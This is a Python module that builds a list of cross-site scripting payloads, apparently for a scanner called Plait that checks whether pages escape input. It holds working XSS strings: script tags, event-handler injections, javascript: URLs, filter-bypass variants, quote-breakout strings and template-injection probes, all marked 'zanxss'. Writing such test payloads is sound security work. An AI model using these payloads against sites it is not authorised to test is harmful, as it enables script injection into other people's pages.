"""Words that would run in a page that did not escape them. Written for Plait.

Each sets `window.xss`, opens a dialog, or makes an element that LOOK finds. All hold
the mark “zanxss”, so that a page can be seen to show one.
"""

_RUN = "window.xss=1;alert('zanxss')"
_HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle")
_TAGS = (
    '<img src=x alt=zanxss {h}="{r}">',
    '<svg {h}="{r}">zanxss</svg>',
    '<body {h}="{r}">zanxss',
    '<details open {h}="{r}">zanxss',
    '<input autofocus {h}="{r}" value=zanxss>',
)
_QUOTES = ('" ', "' ", "` ", '"><', "'><", "--><", "]]><")
_WHOLE = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script/x>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</option></select><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "<iframe srcdoc=\"<script>parent.xss=1;alert('zanxss')</script>\"></iframe>",
    "<iframe src=javascript:alert('zanxss')></iframe>",
    "<a href=javascript:alert('zanxss')>zanxss</a>",
    "<a href=\"&#106;avascript:alert('zanxss')\">zanxss</a>",
    "<a href=' java\tscript:alert(1)'>zanxss</a>",
    "<form action=javascript:alert('zanxss')><button>zanxss</button></form>",
    "<button formaction=javascript:alert(1)>zanxss</button>",
    "<object data=javascript:alert('zanxss')></object>",
    "<embed src=javascript:alert('zanxss')>",
    "<base href=https://elsewhere.example/><i>zanxss</i>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>zanxss",
    "<link rel=stylesheet href=https://elsewhere.example/zanxss.css>",
    "<style>@import 'https://elsewhere.example/zanxss.css';</style>",
    "<math><mtext><img src=x onerror=alert('zanxss')></mtext></math>",
    "<svg><script>alert('zanxss')</script></svg>",
    "<svg><animate onbegin=alert('zanxss') attributeName=x></svg>",
    "<xss id=zanxss tabindex=1 onfocus=alert(1)></xss>",
    "{{ zanxss }}{% load static %}{{ request.user }}",
    "${alert('zanxss')}#{alert(1)}<%= 1 %>",
    "&lt;script&gt;alert('zanxss')&lt;/script&gt;",
    "\u202e<script>alert('zanxss')</script>",
    "＜script＞alert('zanxss')＜/script＞",
)
PAYLOADS: tuple[str, ...] = (
    *_WHOLE,
    *(tag.format(h=handler, r=_RUN) for tag in _TAGS for handler in _HANDLERS[:5]),
    *(f"{quote}zanxss onfocus={_RUN} autofocus x=" for quote in _QUOTES),
)
